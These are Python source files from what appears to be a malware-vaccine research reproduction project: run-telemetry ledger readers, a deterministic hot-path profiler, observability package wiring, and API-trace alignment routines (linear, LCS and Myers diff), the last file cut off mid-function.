    ) -> "RunTelemetry":
        run_dir = Path(run_dir)
        (run_dir / SPOOL_DIR).mkdir(parents=True, exist_ok=True)
        started = time.time()
        run_id = run_id or time.strftime("run-%Y%m%d-%H%M%S-") + str(os.getpid())
        manifest = {
            "version": MANIFEST_VERSION,
            "run_id": run_id,
            "status": "running",
            "population": population,
            "config_fingerprint": config_fingerprint,
            "started_unix": started,
            "pid": os.getpid(),
        }
        _write_atomic(run_dir / MANIFEST_NAME, manifest)
        fold = LedgerFold(population=population, started_unix=started)
        telemetry = cls(
            run_dir,
            manifest,
            Collector(run_dir, fold),
            progress=progress,
            metrics_interval=metrics_interval,
        )
        stream.install(run_dir / SPOOL_DIR)
        stream.emit("run.started", run_id=run_id, population=population)
        return telemetry

    @property
    def spool_dir(self) -> Path:
        return self.run_dir / SPOOL_DIR

    def drain(self) -> None:
        self.collector.drain()
        now = self._clock()
        if now - self._metrics_last >= self.metrics_interval:
            self._metrics_last = now
            self._append_metrics_row()
        if self.progress is not None:
            self.progress.update(self.fold)

    def _append_metrics_row(self) -> None:
        try:
            with open(self.run_dir / METRICS_NAME, "a", encoding="utf-8") as fh:
                fh.write(json.dumps(self.fold.metrics_row()) + "\n")
        except OSError:  # pragma: no cover - telemetry never kills the run
            pass

    def record_profile(self, payload: dict) -> None:
        """Append one hot-path profile row (``profile.jsonl``, next to the
        ledger): per-sample deltas as the survey progresses, one merged
        ``run.profile`` row at the end.  Best-effort like the metrics tail —
        telemetry never kills the run."""
        try:
            with open(self.run_dir / PROFILE_NAME, "a", encoding="utf-8") as fh:
                fh.write(json.dumps(payload) + "\n")
        except OSError:  # pragma: no cover - telemetry never kills the run
            pass

    def finish(self, outcomes: Optional[Dict[str, int]] = None) -> dict:
        """Final drain, manifest flip to ``finished``, emitter teardown.
        Idempotent — a second call returns the finished manifest."""
        if self._finished:
            return self.manifest
        self._finished = True
        stream.emit(
            "run.finished",
            run_id=self.manifest["run_id"],
            completed=self.fold.completed if outcomes is None else outcomes.get("completed"),
            failed=self.fold.failed if outcomes is None else outcomes.get("failed"),
        )
        stream.uninstall()
        self.collector.drain()
        self._append_metrics_row()
        self.collector.close()
        finished = time.time()
        self.manifest.update(
            status="finished",
            finished_unix=finished,
            # Monotonic-clock duration: a wall-clock step mid-run changes
            # the timestamps above, never the measured duration.
            duration_seconds=round(self._clock() - self._started_mono, 3),
            outcomes={
                "completed": self.fold.completed,
                "failed": self.fold.failed,
                "retries": self.fold.retries,
                "timeouts": self.fold.timeouts,
                "cache_hits": self.fold.cache_hits,
                "events": self.fold.events_seen,
                "malformed_lines": self.fold.malformed,
            },
        )
        if outcomes:
            # The executor's PopulationResult is the authority; disagreement
            # would mean a lost or duplicated terminal event.
            self.manifest["outcomes"].update(
                {k: v for k, v in outcomes.items() if v is not None}
            )
        _write_atomic(self.run_dir / MANIFEST_NAME, self.manifest)
        if self.progress is not None:
            self.progress.close(self.fold)
        return self.manifest


# ---------------------------------------------------------------------------
# readers: tail + rendering
# ---------------------------------------------------------------------------


def read_ledger(run_dir: Union[str, os.PathLike]) -> List[dict]:
    """Every complete event currently in the ledger (partial trailing line
    tolerated)."""
    return list(iter_ledger(run_dir, follow=False))


def iter_ledger(
    run_dir: Union[str, os.PathLike],
    follow: bool = False,
    poll_seconds: float = 0.2,
    timeout: Optional[float] = None,
) -> Iterator[dict]:
    """Yield ledger events in file order.  With ``follow``, keep polling for
    new events until the manifest leaves ``running`` (or the writing
    process dies, or ``timeout`` elapses)."""
    run_dir = Path(run_dir)
    path = run_dir / LEDGER_NAME
    offset = 0
    deadline = time.monotonic() + timeout if timeout is not None else None
    while True:
        lines, offset = _read_complete_lines(path, offset)
        events, _malformed = _parse_events(lines)
        for event in events:
            yield event
        if not follow:
            return
        try:
            status = manifest_status(read_manifest(run_dir))
        except ValueError:
            status = "unknown"
        if status != "running":
            # One final sweep: the writer may have flushed between our read
            # and the manifest flip.
            lines, offset = _read_complete_lines(path, offset)
            events, _malformed = _parse_events(lines)
            for event in events:
                yield event
            return
        if deadline is not None and time.monotonic() >= deadline:
            return
        time.sleep(poll_seconds)


def render_event(event: dict, started_unix: Optional[float] = None) -> str:
    """One human line per ledger event, for ``repro tail``."""
    t = float(event.get("t", 0.0) or 0.0)
    offset = f"+{t - started_unix:7.2f}s" if started_unix else f"{t:.2f}"
    kind = str(event.get("kind", "?"))
    sample = event.get("sample", "")
    detail = ""
    if kind == "run.started":
        detail = f"run {event.get('run_id')} over {event.get('population')} samples"
    elif kind == "run.finished":
        detail = f"{event.get('completed')} completed, {event.get('failed')} failed"
    elif kind == "sample.phase":
        detail = (
            f"{sample} {event.get('phase')} "
            f"{1000.0 * float(event.get('seconds', 0.0) or 0.0):.1f}ms"
        )
    elif kind == "cache.hit":
        flavor = "negative " if event.get("negative") else ""
        detail = f"{sample} ({flavor}cache entry)"
    elif kind == "sample.retry":
        detail = (
            f"{sample} attempt {event.get('attempt')} "
            f"{event.get('failure_kind')}: {event.get('error')}"
        )
    elif kind == "sample.timeout":
        detail = f"{sample} attempt {event.get('attempt')}"
    elif kind == "sample.failed":
        detail = (
            f"{sample} {event.get('failure_kind')} ({event.get('error')}) "
            f"after {event.get('attempts')} attempt(s)"
        )
    elif kind == "sample.completed":
        extra = " [cached]" if event.get("cached") else ""
        detail = f"{sample} vaccines={event.get('vaccines')}{extra}"
    elif kind == "sample.started":
        detail = f"{sample} attempt {event.get('attempt', 1)}"
    else:
        detail = " ".join(
            f"{k}={v}"
            for k, v in sorted(event.items())
            if k not in ("t", "pid", "seq", "kind")
        )
    return f"{offset}  {kind:<17s} {detail}".rstrip()


def describe_manifest(manifest: dict) -> str:
    """One status line for a run (``repro runs`` rows / ``repro tail``
    footer)."""
    status = manifest_status(manifest)
    outcomes = manifest.get("outcomes") or {}
    when = time.strftime(
        "%Y-%m-%d %H:%M:%S", time.localtime(float(manifest.get("started_unix", 0.0)))
    )
    parts = [
        f"{manifest.get('run_id', '?'):<28s}",
        f"{status:<9s}",
        f"{when}",
        f"samples={manifest.get('population', '?')}",
    ]
    if outcomes:
        parts.append(f"ok={outcomes.get('completed', '?')}")
        parts.append(f"failed={outcomes.get('failed', '?')}")
    if "duration_seconds" in manifest:
        parts.append(f"took={_fmt_duration(float(manifest['duration_seconds']))}")
    return "  ".join(parts)


__all__ = [
    "Collector",
    "LEDGER_NAME",
    "LedgerFold",
    "MANIFEST_NAME",
    "METRICS_NAME",
    "PROFILE_NAME",
    "ProgressView",
    "RunTelemetry",
    "SPOOL_DIR",
    "describe_manifest",
    "iter_ledger",
    "list_runs",
    "manifest_status",
    "read_ledger",
    "read_manifest",
    "render_event",
]
