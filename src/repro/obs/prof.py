"""Deterministic hierarchical hot-path profiler (``obs.prof``).

The paper's §VI-F numbers — per-sample generation time, per-intercepted-call
daemon overhead — are *attributions*: which named component of the pipeline
the wall-clock went to.  This module is the instrument that produces them
without ad-hoc cProfile runs:

* **VM execution by tier** — ``vm;slow`` (recording/taint dispatch),
  ``vm;fast`` (predecoded untainted loop), ``vm;superblock;region@0x…``
  (one node per compiled hot region) plus ``vm;superblock;guard_exit``
  (count-only: refused dispatches; their time stays on the region node);
* **API dispatch per handler** — ``api;<Name>`` total with
  ``api;<Name>;read_args`` (the ``read_stack_args`` pre-read) split out,
  so body time is the handler node's *self* time;
* **snapshot capture/resume** — ``snapshot;capture`` /
  ``snapshot;resume`` with the structured environment walk as
  ``env_snapshot`` / ``env_restore`` child nodes (``env_pickle`` /
  ``env_unpickle`` on the legacy blob fallback);
* **rule matching** — ``rules;daemon`` / ``rules;clinic`` /
  ``rules;campaign``, one node per :class:`~repro.delivery.engine.RuleEngine`
  consumer.

Design rules (the cheap-hook contract, like metrics/trace/flight):

* Off by default; every instrumented site gates on ``prof.enabled`` (or a
  cached ``None``-or-profiler attribute) *once per run or call*, never per
  instruction — ``benchmarks/bench_prof.py`` holds the enabled-vs-disabled
  pipeline overhead to <=5% and the disabled path is a no-op.
* **Deterministic**: a profile is a flat ``{path: [count, seconds]}`` map.
  Path sets and counts depend only on what executed — merging per-sample
  deltas is commutative addition, so ``jobs=1`` and ``jobs=N`` runs of the
  same corpus produce identical trees (times differ, structure and counts
  do not; ``tests/test_prof.py`` pins this).
* Paths are ``;``-joined frames (the collapsed/folded-stack convention), so
  ``to_folded()`` output feeds ``flamegraph.pl`` / speedscope directly.

The trees are independent attributions, not a single-rooted partition of
wall time: ``api;*`` time is a refinement of part of ``vm;slow`` (API calls
dispatch from the slow step), and ``snapshot;resume`` contains the resumed
run's ``vm;*`` time.  Self time is still well-defined *within* each tree.
"""

from __future__ import annotations

import time
from contextlib import contextmanager
from typing import Dict, Iterator, List, Optional

#: Frame separator (folded-stack convention); frame names must not contain it.
SEP = ";"

#: A profile snapshot: path -> [count, seconds].  JSON-safe by construction.
ProfileDict = Dict[str, List]


class Profiler:
    """Process-local accumulator of ``path -> [count, seconds]`` cells.

    One global instance lives at ``repro.obs.prof``.  Hot sites accumulate
    locally (plain ints/floats) and flush once per run/call via :meth:`add`;
    :meth:`mark`/:meth:`since` carve out per-sample deltas, which merge
    across executor workers through :meth:`absorb` (commutative, so worker
    completion order cannot change the result).
    """

    __slots__ = ("enabled", "_paths")

    def __init__(self) -> None:
        #: Off by default — profiling is opt-in (``repro profile``,
        #: ``survey --profile``), unlike metrics/tracing which default on.
        self.enabled = False
        self._paths: ProfileDict = {}

    # -- collection (hot-ish; callers gate on .enabled first) ----------------

    def add(self, path: str, seconds: float = 0.0, count: int = 1) -> None:
        """Fold ``count`` events and ``seconds`` of wall time into ``path``."""
        if not self.enabled:
            return
        cell = self._paths.get(path)
        if cell is None:
            self._paths[path] = [count, seconds]
        else:
            cell[0] += count
            cell[1] += seconds

    @contextmanager
    def timed(self, path: str) -> Iterator[None]:
        """Time a block into ``path`` (no-op when disabled)."""
        if not self.enabled:
            yield
            return
        started = time.perf_counter()
        try:
            yield
        finally:
            self.add(path, time.perf_counter() - started)

    # -- snapshots, deltas, merging ------------------------------------------

    def snapshot(self) -> ProfileDict:
        """JSON-safe copy of everything collected so far."""
        return {path: [cell[0], cell[1]] for path, cell in self._paths.items()}

    def mark(self) -> ProfileDict:
        """Checkpoint for :meth:`since` (per-sample delta extraction)."""
        return self.snapshot()

    def since(self, mark: ProfileDict) -> ProfileDict:
        """What was collected after ``mark`` — the per-sample profile the
        pipeline attaches to :class:`~repro.core.pipeline.SampleAnalysis`."""
        delta: ProfileDict = {}
        for path, (count, seconds) in self._paths.items():
            base = mark.get(path)
            d_count = count - (base[0] if base else 0)
            d_seconds = seconds - (base[1] if base else 0.0)
            if d_count or d_seconds > 0.0:
                delta[path] = [d_count, d_seconds]
        return delta

    def absorb(self, profile: Optional[ProfileDict]) -> None:
        """Fold a snapshot/delta from another process (or a cache hit) in.

        Not gated on ``enabled``: this is data plumbing, not collection —
        the executor parent folds worker profiles the same way
        ``MetricsRegistry.merge`` folds worker metric snapshots.
        """
        if not profile:
            return
        for path, cell in profile.items():
            mine = self._paths.get(path)
            if mine is None:
                self._paths[path] = [cell[0], cell[1]]
            else:
                mine[0] += cell[0]
                mine[1] += cell[1]

    def reset(self) -> None:
        """Drop collected data (the ``enabled`` flag is left alone, matching
        ``MetricsRegistry.reset``)."""
        self._paths.clear()

    def __len__(self) -> int:
        return len(self._paths)


def merge_profiles(*profiles: Optional[ProfileDict]) -> ProfileDict:
    """Commutative sum of profile snapshots (``None`` entries skipped)."""
    merged: ProfileDict = {}
    for profile in profiles:
        if not profile:
            continue
        for path, cell in profile.items():
            mine = merged.get(path)
            if mine is None:
                merged[path] = [cell[0], cell[1]]
            else:
                mine[0] += cell[0]
                mine[1] += cell[1]
    return merged


# ---------------------------------------------------------------------------
# export: JSON tree, folded stacks, hot-paths table
# ---------------------------------------------------------------------------


def to_tree(profile: ProfileDict) -> List[dict]:
    """Nested-node view of a flat profile, children sorted by name.

    Each node: ``{name, path, count, total_seconds, self_seconds,
    children}``.  Interior frames without their own cell (e.g. ``api`` when
    only ``api;X`` was recorded) are synthesized with the sum of their
    children and zero self time; a frame *with* its own cell gets
    ``self = total - sum(children totals)`` clamped at zero.
    """
    root: dict = {"children": {}}
    for path in sorted(profile):
        count, seconds = profile[path]
        node = root
        frames = path.split(SEP)
        for depth, frame in enumerate(frames):
            node = node["children"].setdefault(
                frame,
                {
                    "name": frame,
                    "path": SEP.join(frames[: depth + 1]),
                    "count": 0,
                    "total_seconds": 0.0,
                    "own": False,
                    "children": {},
                },
            )
        node["count"] = count
        node["total_seconds"] = seconds
        node["own"] = True

    def finalize(node: dict) -> dict:
        children = [finalize(child) for _, child in sorted(node["children"].items())]
        child_total = sum(c["total_seconds"] for c in children)
        child_count = sum(c["count"] for c in children)
        if not node["own"]:
            node["total_seconds"] = child_total
            node["count"] = child_count
        node["self_seconds"] = round(max(0.0, node["total_seconds"] - child_total), 9)
        node["total_seconds"] = round(node["total_seconds"], 9)
        node["children"] = children
        node.pop("own")
        return node

    return [
        finalize(child) for _, child in sorted(root["children"].items())
    ]


def _self_cells(profile: ProfileDict) -> Dict[str, List]:
    """path -> [count, self_seconds] (total minus recorded children)."""
    cells = {path: [cell[0], cell[1]] for path, cell in profile.items()}
    for path, cell in profile.items():
        prefix = path + SEP
        child_sum = sum(
            c[1]
            for p, c in profile.items()
            if p.startswith(prefix) and SEP not in p[len(prefix):]
        )
        cells[path][1] = max(0.0, cell[1] - child_sum)
    return cells


def to_folded(profile: ProfileDict) -> str:
    """Collapsed/folded-stack text: one ``path value`` line per frame with
    *self* time in integer microseconds — the format ``flamegraph.pl`` and
    speedscope ingest directly."""
    lines = []
    for path, (_count, self_seconds) in sorted(_self_cells(profile).items()):
        lines.append(f"{path} {int(round(self_seconds * 1_000_000))}")
    return "\n".join(lines) + ("\n" if lines else "")


def render_table(profile: ProfileDict, top: Optional[int] = None) -> str:
    """Human-readable hot-paths table, widest self time first."""
    if not profile:
        return "(no profile data)\n"
    self_cells = _self_cells(profile)
    grand = sum(cell[1] for cell in self_cells.values()) or 1.0
    rows = sorted(
        self_cells.items(), key=lambda item: (-item[1][1], item[0])
    )
    if top is not None:
        rows = rows[: max(0, top)]
    width = max(len("path"), max(len(path) for path, _ in rows))
    lines = [
        f"{'path':<{width}}  {'count':>10}  {'total':>10}  {'self':>10}  {'self%':>6}"
    ]
    for path, (count, self_seconds) in rows:
        total = profile[path][1]
        lines.append(
            f"{path:<{width}}  {count:>10,}  {_fmt_seconds(total):>10}  "
            f"{_fmt_seconds(self_seconds):>10}  {100.0 * self_seconds / grand:>5.1f}%"
        )
    return "\n".join(lines) + "\n"


def _fmt_seconds(seconds: float) -> str:
    if seconds >= 1.0:
        return f"{seconds:.3f}s"
    if seconds >= 0.001:
        return f"{seconds * 1e3:.2f}ms"
    return f"{seconds * 1e6:.1f}us"


__all__ = [
    "Profiler",
    "SEP",
    "merge_profiles",
    "render_table",
    "to_folded",
    "to_tree",
]
