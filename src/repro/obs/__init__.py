"""``repro.obs`` — structured tracing, metrics, and logging for the pipeline.

The paper's §VI-F evaluation is entirely *measured* behaviour (per-sample
generation time, per-identifier slicing time, daemon hook overhead <4.5%);
this package is the instrumentation substrate those measurements come from:

* :data:`metrics` — process-local registry of counters/gauges/histograms
  with labels; JSON + Prometheus text exporters (:mod:`repro.obs.metrics`);
* :data:`trace` — span-based tracer (``with trace.span("impact"):``)
  producing a nestable span tree with a flame-style text summary
  (:mod:`repro.obs.tracer`);
* :func:`get_logger` — structured key=value stdlib logging, enabled via the
  ``REPRO_LOG`` environment variable (:mod:`repro.obs.log`);
* :data:`flight` — bounded flight recorder journaling analysis-causal
  events into a per-sample provenance DAG (:mod:`repro.obs.flight`),
  rendered by ``repro explain``;
* :data:`prof` — deterministic hot-path profiler (:mod:`repro.obs.prof`):
  opt-in wall-time/count attribution per VM tier, API handler, snapshot
  pickle/unpickle, and rule-engine consumer, rendered by ``repro profile``
  and exportable as a JSON tree or folded stacks for flamegraph tooling;
* :mod:`~repro.obs.stream` / :mod:`~repro.obs.ledger` — cross-process run
  telemetry: workers spool per-sample lifecycle events as JSONL, the
  executor parent folds them into a persistent run ledger (``--run-dir``),
  watched live via ``survey --progress`` / ``repro tail`` and listed by
  ``repro runs``.

Instrumented code must stay cheap when observability is off::

    with obs.disabled():
        AutoVac().analyze(program)   # null spans, null counters

``benchmarks/bench_perf_overhead.py`` holds the enabled-vs-disabled pipeline
overhead to <=5% (artifact ``obs_overhead.txt``).
"""

from __future__ import annotations

from contextlib import contextmanager
from typing import Dict, Iterator

from . import ledger, stream
from .export import load, render_prometheus, render_stats, snapshot, write_json
from .flight import (
    MAX_FLIGHT_EVENTS,
    FlightEvent,
    FlightRecorder,
    Journal,
    render_chain,
    summarize_event,
)
from .ledger import LedgerFold, ProgressView, RunTelemetry
from .log import configure as configure_logging
from .log import get_logger
from .metrics import DEFAULT_BUCKETS, MAX_LABEL_SETS, Counter, Gauge, Histogram, MetricsRegistry, Timer
from .prof import Profiler, merge_profiles, render_table, to_folded, to_tree
from .tracer import Span, Tracer, render_flame

#: The process-global registry, tracer, flight recorder, and profiler every
#: layer reports into.
metrics = MetricsRegistry()
trace = Tracer()
flight = FlightRecorder()
prof = Profiler()


def is_enabled() -> bool:
    return metrics.enabled and trace.enabled


@contextmanager
def disabled() -> Iterator[None]:
    """Turn all instrumentation off inside the block (overhead baseline)."""
    saved = (metrics.enabled, trace.enabled, flight.enabled, prof.enabled)
    metrics.enabled = False
    trace.enabled = False
    flight.enabled = False
    prof.enabled = False
    try:
        yield
    finally:
        metrics.enabled, trace.enabled, flight.enabled, prof.enabled = saved


@contextmanager
def profiled() -> Iterator[None]:
    """Turn the hot-path profiler on inside the block (it is off by
    default); collected data stays in :data:`prof` afterwards."""
    saved = prof.enabled
    prof.enabled = True
    try:
        yield
    finally:
        prof.enabled = saved


def reset() -> None:
    """Drop all collected metrics, spans, flight events, and profile data
    and detach any run-telemetry emitter (tests / between CLI runs / worker
    start)."""
    metrics.reset()
    trace.reset()
    flight.reset()
    prof.reset()
    stream.uninstall()


def export_snapshot() -> Dict[str, object]:
    """JSON-safe dump of the global registry + tracer + profiler."""
    return snapshot(metrics, trace, prof)


def export_json(path) -> Dict[str, object]:
    """Write the global snapshot to ``path``; returns the written dict."""
    return write_json(path, metrics, trace, prof)


__all__ = [
    "Counter",
    "DEFAULT_BUCKETS",
    "FlightEvent",
    "FlightRecorder",
    "Gauge",
    "Histogram",
    "Journal",
    "LedgerFold",
    "MAX_FLIGHT_EVENTS",
    "MAX_LABEL_SETS",
    "MetricsRegistry",
    "Profiler",
    "ProgressView",
    "RunTelemetry",
    "Span",
    "Timer",
    "Tracer",
    "configure_logging",
    "disabled",
    "export_json",
    "export_snapshot",
    "flight",
    "get_logger",
    "is_enabled",
    "ledger",
    "load",
    "merge_profiles",
    "metrics",
    "prof",
    "profiled",
    "render_chain",
    "render_flame",
    "render_prometheus",
    "render_stats",
    "render_table",
    "reset",
    "snapshot",
    "stream",
    "summarize_event",
    "to_folded",
    "to_tree",
    "trace",
    "write_json",
]
