"""Shared program/trace analyses: alignment, CFG, enforced execution."""

from .alignment import AlignmentResult, align_lcs, align_linear, align_myers
from .cfg import BasicBlock, ControlFlowGraph, build_cfg
from .forced_execution import ExplorationResult, explore_resource_paths
from .stats import (
    chi_square_statistic,
    geometric_mean_ratio,
    normalize,
    rank_agreement,
    summarize,
    total_variation,
)

__all__ = [
    "AlignmentResult",
    "BasicBlock",
    "ControlFlowGraph",
    "ExplorationResult",
    "align_lcs",
    "align_linear",
    "align_myers",
    "build_cfg",
    "explore_resource_paths",
    "chi_square_statistic",
    "geometric_mean_ratio",
    "normalize",
    "rank_agreement",
    "summarize",
    "total_variation",
]
