"""Trace differential analysis (paper §IV-B, Algorithm 1).

Aligns two API-call traces — the natural run and a resource-mutated run — on
the calling-context triple ``<API-name, Caller-PC, static params>`` and
returns the unaligned difference sets Δm (mutated-only) and Δn (natural-only).

Two alignment strategies are provided:

* :func:`align_linear` — the paper's Algorithm 1: linear scan for the first
  anchor where the traces re-converge; everything before it on each side is
  the difference set.
* :func:`align_lcs` — Zeller-style alignment as a longest-common-subsequence
  diff over context keys (the paper adopts the alignment idea from Zeller's
  cause-effect-chain work); more precise when traces interleave.

The pipeline uses LCS by default and keeps Algorithm 1 for the ablation bench.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, List, Sequence, Tuple

from ..tracing.events import ApiCallEvent


@dataclass
class AlignmentResult:
    """Unaligned events from each trace."""

    delta_mutated: List[ApiCallEvent] = field(default_factory=list)
    delta_natural: List[ApiCallEvent] = field(default_factory=list)
    aligned_pairs: int = 0

    @property
    def is_identical(self) -> bool:
        return not self.delta_mutated and not self.delta_natural


def _keys(events: Sequence[ApiCallEvent]) -> List[Tuple]:
    return [e.context_key() for e in events]


def align_linear(
    mutated: Sequence[ApiCallEvent], natural: Sequence[ApiCallEvent]
) -> AlignmentResult:
    """Paper Algorithm 1: find the first anchor call of the mutated trace that
    aligns into the natural trace; the prefixes before the anchor form the
    difference sets, and the remainder is aligned greedily."""
    result = AlignmentResult()
    nat_keys = _keys(natural)

    anchor_m = anchor_n = None
    for i, event in enumerate(mutated):
        key = event.context_key()
        try:
            anchor_n = nat_keys.index(key)
            anchor_m = i
            break
        except ValueError:
            result.delta_mutated.append(event)
    if anchor_m is None:
        # No alignment point at all: the whole traces differ (lines 8-10).
        result.delta_natural = list(natural)
        return result

    result.delta_natural = list(natural[:anchor_n])
    # Greedy pairwise walk from the anchor.
    i, j = anchor_m, anchor_n
    while i < len(mutated) and j < len(natural):
        if mutated[i].context_key() == natural[j].context_key():
            result.aligned_pairs += 1
            i += 1
            j += 1
        else:
            # Skip the shorter lookahead to re-synchronize.
            next_m = _find(nat_keys, mutated[i].context_key(), j)
            if next_m is None:
                result.delta_mutated.append(mutated[i])
                i += 1
            else:
                result.delta_natural.extend(natural[j:next_m])
                j = next_m
    result.delta_mutated.extend(mutated[i:])
    result.delta_natural.extend(natural[j:])
    return result


def _find(keys: List[Tuple], key: Tuple, start: int):
    try:
        return keys.index(key, start)
    except ValueError:
        return None


def align_lcs(
    mutated: Sequence[ApiCallEvent], natural: Sequence[ApiCallEvent]
) -> AlignmentResult:
    """LCS alignment over context keys (Zeller-style program alignment)."""
    a, b = _keys(mutated), _keys(natural)
    n, m = len(a), len(b)
    # Standard O(n*m) LCS table; traces are API-level so sizes are modest.
    table = [[0] * (m + 1) for _ in range(n + 1)]
    for i in range(n - 1, -1, -1):
        row, nxt = table[i], table[i + 1]
        for j in range(m - 1, -1, -1):
            if a[i] == b[j]:
                row[j] = nxt[j + 1] + 1
            else:
                row[j] = nxt[j] if nxt[j] >= row[j + 1] else row[j + 1]
    result = AlignmentResult()
    i = j = 0
    while i < n and j < m:
        if a[i] == b[j]:
            result.aligned_pairs += 1
            i += 1
            j += 1
        elif table[i + 1][j] >= table[i][j + 1]:
            result.delta_mutated.append(mutated[i])
            i += 1
        else:
            result.delta_natural.append(natural[j])
            j += 1
    result.delta_mutated.extend(mutated[i:])
    result.delta_natural.extend(natural[j:])
    return result


#: Signature shared by both aligners.
Aligner = Callable[[Sequence[ApiCallEvent], Sequence[ApiCallEvent]], AlignmentResult]
