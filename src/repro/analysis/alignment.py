"""Trace differential analysis (paper §IV-B, Algorithm 1).

Aligns two API-call traces — the natural run and a resource-mutated run — on
the calling-context triple ``<API-name, Caller-PC, static params>`` and
returns the unaligned difference sets Δm (mutated-only) and Δn (natural-only).

Three alignment strategies are provided:

* :func:`align_linear` — the paper's Algorithm 1: linear scan for the first
  anchor where the traces re-converge; everything before it on each side is
  the difference set.
* :func:`align_lcs` — Zeller-style alignment as a longest-common-subsequence
  diff over context keys (the paper adopts the alignment idea from Zeller's
  cause-effect-chain work); more precise when traces interleave.
* :func:`align_myers` — the same LCS-maximal alignment computed with a
  hash-anchored Myers O(ND) greedy diff: context keys are interned to ints,
  the common prefix/suffix (the overwhelming bulk of a mutated-vs-natural
  pair) is stripped in linear time, and only the divergent middle pays the
  diff cost, proportional to the edit distance D instead of ``n*m``.

The pipeline uses the Myers aligner by default and keeps LCS and Algorithm 1
for the ablation bench.  Note LCS-maximal alignments are not unique: when a
delta can be attributed to either side, ``align_myers`` and ``align_lcs``
may pick different (equally maximal) difference sets, but they always agree
on ``is_identical`` and on the number of aligned pairs.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, List, Sequence, Tuple

from ..tracing.events import ApiCallEvent


@dataclass
class AlignmentResult:
    """Unaligned events from each trace."""

    delta_mutated: List[ApiCallEvent] = field(default_factory=list)
    delta_natural: List[ApiCallEvent] = field(default_factory=list)
    aligned_pairs: int = 0

    @property
    def is_identical(self) -> bool:
        return not self.delta_mutated and not self.delta_natural


def _keys(events: Sequence[ApiCallEvent]) -> List[Tuple]:
    return [e.context_key() for e in events]


def align_linear(
    mutated: Sequence[ApiCallEvent], natural: Sequence[ApiCallEvent]
) -> AlignmentResult:
    """Paper Algorithm 1: find the first anchor call of the mutated trace that
    aligns into the natural trace; the prefixes before the anchor form the
    difference sets, and the remainder is aligned greedily."""
    result = AlignmentResult()
    nat_keys = _keys(natural)

    anchor_m = anchor_n = None
    for i, event in enumerate(mutated):
        key = event.context_key()
        try:
            anchor_n = nat_keys.index(key)
            anchor_m = i
            break
        except ValueError:
            result.delta_mutated.append(event)
    if anchor_m is None:
        # No alignment point at all: the whole traces differ (lines 8-10).
        result.delta_natural = list(natural)
        return result

    result.delta_natural = list(natural[:anchor_n])
    # Greedy pairwise walk from the anchor.
    i, j = anchor_m, anchor_n
    while i < len(mutated) and j < len(natural):
        if mutated[i].context_key() == natural[j].context_key():
            result.aligned_pairs += 1
            i += 1
            j += 1
        else:
            # Skip the shorter lookahead to re-synchronize.
            next_m = _find(nat_keys, mutated[i].context_key(), j)
            if next_m is None:
                result.delta_mutated.append(mutated[i])
                i += 1
            else:
                result.delta_natural.extend(natural[j:next_m])
                j = next_m
    result.delta_mutated.extend(mutated[i:])
    result.delta_natural.extend(natural[j:])
    return result


def _find(keys: List[Tuple], key: Tuple, start: int):
    try:
        return keys.index(key, start)
    except ValueError:
        return None


def align_lcs(
    mutated: Sequence[ApiCallEvent], natural: Sequence[ApiCallEvent]
) -> AlignmentResult:
    """LCS alignment over context keys (Zeller-style program alignment)."""
    a, b = _keys(mutated), _keys(natural)
    n, m = len(a), len(b)
    # Standard O(n*m) LCS table; traces are API-level so sizes are modest.
    table = [[0] * (m + 1) for _ in range(n + 1)]
    for i in range(n - 1, -1, -1):
        row, nxt = table[i], table[i + 1]
        for j in range(m - 1, -1, -1):
            if a[i] == b[j]:
                row[j] = nxt[j + 1] + 1
            else:
                row[j] = nxt[j] if nxt[j] >= row[j + 1] else row[j + 1]
    result = AlignmentResult()
    i = j = 0
    while i < n and j < m:
        if a[i] == b[j]:
            result.aligned_pairs += 1
            i += 1
            j += 1
        elif table[i + 1][j] >= table[i][j + 1]:
            result.delta_mutated.append(mutated[i])
            i += 1
        else:
            result.delta_natural.append(natural[j])
            j += 1
    result.delta_mutated.extend(mutated[i:])
    result.delta_natural.extend(natural[j:])
    return result


def align_myers(
    mutated: Sequence[ApiCallEvent], natural: Sequence[ApiCallEvent]
) -> AlignmentResult:
    """LCS-maximal alignment via a Myers O(ND) greedy diff over interned
    context keys.

    Mutated traces share almost their entire prefix (and usually suffix)
    with the natural trace, so the expected cost is ~O(n + m + D^2) with a
    tiny D — versus the unconditional O(n*m) table of :func:`align_lcs`.
    The ``AlignmentResult`` contract is preserved exactly: every event lands
    in the aligned set or in exactly one difference set, and
    ``aligned_pairs`` equals the LCS length.
    """
    # Intern keys to small ints: tuple equality (str cmp per element) is the
    # hot operation of any diff; int equality is one pointer compare.
    ids: dict = {}
    a = [ids.setdefault(e.context_key(), len(ids)) for e in mutated]
    b = [ids.setdefault(e.context_key(), len(ids)) for e in natural]
    n, m = len(a), len(b)

    result = AlignmentResult()

    # Anchor on the common prefix and suffix in linear time.
    pre = 0
    while pre < n and pre < m and a[pre] == b[pre]:
        pre += 1
    suf = 0
    while suf < n - pre and suf < m - pre and a[n - 1 - suf] == b[m - 1 - suf]:
        suf += 1

    result.aligned_pairs = pre + suf
    mid_a, mid_b = a[pre:n - suf], b[pre:m - suf]
    if mid_a or mid_b:
        for op, index in _myers_script(mid_a, mid_b):
            if op == 0:  # match
                result.aligned_pairs += 1
            elif op == 1:  # only in mutated
                result.delta_mutated.append(mutated[pre + index])
            else:  # only in natural
                result.delta_natural.append(natural[pre + index])
    return result


def _myers_script(a: List[int], b: List[int]):
    """Greedy Myers diff (An O(ND) Difference Algorithm, 1986).

    Yields ``(op, index)`` in forward order: op 0 = match (index into
    ``a``), 1 = delete from ``a``, 2 = insert from ``b`` (index into ``b``).
    ``history[d]`` snapshots the furthest-x frontier *entering* round d —
    exactly the values round d's decisions read (k±1 have opposite parity,
    so they were last written in round d-1) — which is what the backtrack
    replays.
    """
    n, m = len(a), len(b)
    v = {1: 0}
    history: List[dict] = []
    d_final = None
    for d in range(n + m + 1):
        history.append(dict(v))
        for k in range(-d, d + 1, 2):
            if k == -d or (k != d and v[k - 1] < v[k + 1]):
                x = v[k + 1]
            else:
                x = v[k - 1] + 1
            y = x - k
            while x < n and y < m and a[x] == b[y]:
                x += 1
                y += 1
            v[k] = x
            if x >= n and y >= m:
                d_final = d
                break
        if d_final is not None:
            break

    # Backtrack from (n, m) through the per-round frontiers.
    script: List[Tuple[int, int]] = []
    x, y = n, m
    for d in range(d_final, 0, -1):
        frontier = history[d]
        k = x - y
        if k == -d or (k != d and frontier[k - 1] < frontier[k + 1]):
            prev_k = k + 1
        else:
            prev_k = k - 1
